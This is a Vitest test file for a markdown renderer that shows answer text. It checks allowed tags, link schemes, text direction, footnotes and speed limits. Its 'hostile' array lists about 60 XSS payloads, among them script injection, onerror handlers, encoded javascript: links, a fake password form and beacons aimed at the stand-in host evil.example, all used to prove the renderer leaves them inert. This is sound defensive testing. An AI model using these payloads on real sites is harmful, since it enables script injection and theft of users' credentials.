import fc from 'fast-check';
import { createElement, type ReactNode } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { linkAddress } from '../../../../app/_components/answer-text/link-address';
import { renderMarkdown } from '../../../../app/_components/answer-text/render-markdown';

const parts = {
  link: (address: string, children: ReactNode) => createElement('span', { 'data-ask': address }, children),
  codeLabel: 'Code',
  tableLabel: 'Table',
};

function html(markdown: string): string {
  const element = renderMarkdown(markdown, parts);
  return element === null ? 'PLAIN' : renderToStaticMarkup(element);
}

/** Every tag with its attributes, as the browser would read them. */
function tags(markup: string): { name: string; attributes: string[] }[] {
  return [...markup.matchAll(/<([a-z][a-z0-9-]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/gi)].map((match) => ({
    name: match[1]!.toLowerCase(),
    attributes: [...match[2]!.matchAll(/\s([^\s=>]+)(?:="[^"]*")?/g)].map((attribute) => attribute[1]!.toLowerCase()),
  }));
}

const allowedTags = new Set(
  'p h3 h4 h5 h6 ul ol li blockquote pre code em strong del sup br hr table thead tbody tr th td div span'.split(' '),
);
const allowedAttributes = new Set(['dir', 'start', 'style', 'role', 'aria-label', 'tabindex', 'class', 'data-ask']);

function expectInert(markdown: string): string {
  const markup = html(markdown);
  const seen = tags(markup);
  expect(
    [...new Set(seen.map((tag) => tag.name))].filter((name) => !allowedTags.has(name)),
    markdown,
  ).toEqual([]);
  expect(
    [...new Set(seen.flatMap((tag) => tag.attributes))].filter((name) => !allowedAttributes.has(name)),
    markdown,
  ).toEqual([]);
  for (const [, style] of markup.matchAll(/style="([^"]*)"/g)) expect(style).toMatch(/^text-align:(left|center|right)$/);
  for (const [, address] of markup.matchAll(/data-ask="([^"]*)"/g)) expect(address).toMatch(/^(https?:\/\/|mailto:)/);
  return markup;
}

const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="https://evil.example/x.swf">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example" ping="https://evil.example">x</a>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<video src=x onerror=alert(1)><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<p style="position:fixed;inset:0;background:red">covered</p>',
  '<div id="main" class="btn primary" onclick="alert(1)">clobber</div>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x onclick=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example)',
  '[x](/api/sign-out)',
  '[x](?logout)',
  '[x](#main)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](https://evil.example/beacon.png)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![a][b]\n\n[b]: https://evil.example/beacon.png',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '[x](https://evil.example "\\" onmouseover=alert(1) x=\\"")',
  '[x](https://evil.example"onmouseover="alert(1))',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
  '- [x] <input type=checkbox onclick=alert(1)>',
  'text[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '$$<img src=x onerror=alert(1)>$$',
  '\\(<script>alert(1)</script>\\)',
  '{{constructor.constructor("alert(1)")()}}',
];

describe('hostile answers', () => {
  it.each(hostile)('%s is inert', (markdown) => {
    expectInert(markdown);
    expectInert(`- > ${markdown}`);
    expectInert(`**${markdown}**`);
  });

  it('raw HTML stays readable as the text it was written as', () => {
    expect(html('a <img src=x onerror=alert(1)> b')).toContain('a &lt;img src=x onerror=alert(1)&gt; b');
    expect(html('<script>alert(1)</script>')).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });

  it('an image is its description and address', () => {
    expect(html('![A cat](https://evil.example/beacon.png)')).toBe('<p dir="auto">A cat (https://evil.example/beacon.png)</p>');
  });

  it('an address that we do not offer is shown as text', () => {
    expect(html('[go](javascript:alert(1))')).toBe('<p dir="auto">go (javascript:alert(1))</p>');
    expect(html('[go](/settings)')).toBe('<p dir="auto">go (/settings)</p>');
  });

  it('any mixture of fragments is inert and renders', () => {
    const fragment = fc.oneof(
      fc.constantFrom(...hostile),
      fc.constantFrom(
        '*',
        '_',
        '`',
        '```',
        '[',
        '](',
        ')',
        '<',
        '>',
        '|',
        '\n',
        '\n\n',
        '- ',
        '1. ',
        '> ',
        '#',
        '~~',
        '$',
        '\\',
        '&lt;',
        '\u202e',
        '\0',
      ),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(fragment, { maxLength: 14 }), (list) => {
        expectInert(list.join(''));
      }),
      { numRuns: 300 },
    );
  });
});

describe('links', () => {
  it('open only http, https and mail, in full, with the host as it is', () => {
    expect(linkAddress('https://example.org/a b')).toBe('https://example.org/a%20b');
    expect(linkAddress('https://аррӏе.example/')).toBe('https://xn--80ak6aa92e.example/');
    expect(linkAddress('mailto:a@example.org')).toBe('mailto:a@example.org');
    for (const written of ['', 'x', '/x', '//x.example', '#x', 'javascript:1', 'java\tscript:1', 'data:,x', 'https://', 'http://[']) {
      expect(linkAddress(written), written).toBeNull();
    }
  });

  it('bare addresses become links too, and ask', () => {
    expect(html('see https://example.org/x now')).toContain('<span data-ask="https://example.org/x">https://example.org/x</span>');
  });
});

describe('reading', () => {
  it('keeps line breaks: a list of lines is no paragraph', () => {
    expect(html('one\ntwo\n\nthree')).toBe('<p dir="auto">one<br/>\ntwo</p>\n<p dir="auto">three</p>');
  });

  it('shows lists, code, tables and task lists', () => {
    expect(html('3. a\n4. b')).toContain('<ol start="3" dir="ltr">');
    expect(html('```js\nlet a = 1;\n```')).toContain('<code>let a = 1;\n</code>');
    expect(html('| a | b |\n|:--|--:|\n| 1 | 2 |')).toContain('aria-label="Table" tabindex="0"><table>');
    expect(html('- [x] done\n- [ ] open')).toMatch(/☑.*done[\s\S]*☐.*open/);
  });

  it('gives lists and quotes the direction of their first letter, also when their blocks have one of their own', () => {
    expect(html('1. يدخل الضوء\n\n2. ثم يتبعثر')).toMatch(/^<ol dir="rtl">\n<li dir="auto">\n<p dir="auto">/);
    expect(html('> - 123 שלום')).toMatch(/^<blockquote dir="rtl">\n<ul dir="rtl">/);
    expect(html('- one')).toContain('<ul dir="ltr">');
  });

  it('follows references wherever their definition stands, and leaves those that lead nowhere as written', () => {
    expect(html('[a][b] and [B]\n\n[b]: https://e.org/é')).toBe(
      '<p dir="auto"><span data-ask="https://e.org/%C3%A9">a</span> and <span data-ask="https://e.org/%C3%A9">B</span></p>',
    );
    expect(html('[a][b] ![c][d]')).toBe('<p dir="auto">[a][b] ![c][d]</p>');
    expect(html('[a](#part) ![c][d]\n\n[d]: https://e.org/i.png')).toBe('<p dir="auto">a c (https://e.org/i.png)</p>');
  });

  it('puts the footnotes that are asked for below, in the order of their numbers', () => {
    expect(html('x[^b] y[^a] z[^b]\n\n[^a]: First\n[^b]: Second [^c]\n[^c]: Third\n[^d]: Nobody asks')).toBe(
      '<p dir="auto">x<sup>1</sup> y<sup>2</sup> z<sup>1</sup></p>\n<hr/>\n<ol dir="ltr">\n' +
        '<li dir="auto">\n<p dir="auto">Second <sup>3</sup></p>\n</li>\n<li dir="auto">\n<p dir="auto">First</p>\n</li>\n' +
        '<li dir="auto">\n<p dir="auto">Third</p>\n</li>\n</ol>\n',
    );
  });

  it('gives the items of a loose list paragraphs, those of a tight one none', () => {
    expect(html('- a\n  - b\n- c')).toBe(
      '<ul dir="ltr">\n<li dir="auto">a\n<ul dir="ltr">\n<li dir="auto">b</li>\n</ul>\n</li>\n<li dir="auto">c</li>\n</ul>',
    );
    expect(html('- [x] a\n\n- b')).toBe(
      '<ul dir="ltr">\n<li dir="auto">\n<p dir="auto">☑ a</p>\n</li>\n<li dir="auto">\n<p dir="auto">b</p>\n</li>\n</ul>',
    );
  });

  it('gives a row of a table as many cells as its head', () => {
    expect(html('| a | b |\n| - | :-: |\n| 1 |\n| 1 | 2 | 3 |').replace(/ (dir|style)="[^"]*"/g, '')).toContain(
      '<tbody><tr><td>1</td><td></td></tr><tr><td>1</td><td>2</td></tr></tbody>',
    );
  });

  it("puts an answer's headings below the page's own", () => {
    expect(html('# Top\n\n## Next')).toBe('<h3 dir="auto">Top</h3>\n<h3 dir="auto">Next</h3>');
  });

  it.each(['\\(x_1 + x_2\\)', '\\[ \\frac{a}{b} * c * d \\]', '$$\\sum_{i=1}^n x_i$$', 'cost $a_1 \\cdot b_2$ here'])(
    'leaves LaTeX as written: %s',
    (latex) => {
      expect(html(latex)).toBe(`<p dir="auto">${latex}</p>`);
    },
  );

  it('does not take money or code for LaTeX', () => {
    expect(html('$5 and *not* $6')).toContain('<em>not</em>');
    expect(html('`\\(x_1\\)`')).toBe('<p dir="auto"><code>\\(x_1\\)</code></p>');
  });

  it('keeps every letter and digit of prose', () => {
    fc.assert(
      fc.property(fc.array(fc.stringMatching(/^[a-z0-9]{1,6}$/), { minLength: 1, maxLength: 20 }), (list) => {
        const shown = html(list.join(' ')).replace(/<[^>]*>/g, '');
        expect(shown).toBe(list.join(' '));
      }),
    );
  });
});

/** Far above what it takes, far below what a quadratic parser would: this machine may be busy. */
const LIMIT_MS = 30_000;

describe('size and nesting', () => {
  it.each([
    ['too long', 'word '.repeat(10_001)],
    ['quotes in quotes', `${'>'.repeat(5000)} x`],
    ['lists in lists', `${'- '.repeat(500)}x`],
    ['indented lists', Array.from({ length: 60 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')],
    ['brackets', '['.repeat(20_000)],
    ['emphasis', '*a **b '.repeat(5000)],
    ['backticks', Array.from({ length: 300 }, (_, index) => '`'.repeat(index)).join(' ')],
    ['HTML openers', '<a'.repeat(20_000)],
    ['lines', 'x\n'.repeat(4_000)],
  ])('%s falls back to plain text', (_, markdown) => {
    const started = performance.now();
    expect(html(markdown)).toBe('PLAIN');
    expect(performance.now() - started).toBeLessThan(LIMIT_MS);
  });

  it.each([
    ['emphasis', '*a **b '.repeat(1400)],
    ['brackets', '[a]('.repeat(1900)],
    ['links', '[a](<b'.repeat(1400)],
    ['entities', '&'.repeat(49_000)],
    ['underscores', 'a_b '.repeat(5900)],
    ['one word', 'x'.repeat(49_000)],
    ['lines', 'x\n'.repeat(2_900)],
    ['dollars', '$a_'.repeat(5900)],
    ['formula openers', '\\( '.repeat(16_000)],
    ['table rows', `| a | b |\n| - | - |\n${'| 1 | 2 |\n'.repeat(1900)}`],
  ])('the largest rendered text of %s stays quick', (_, markdown) => {
    const started = performance.now();
    expectInert(markdown);
    expect(performance.now() - started).toBeLessThan(LIMIT_MS);
  });
});
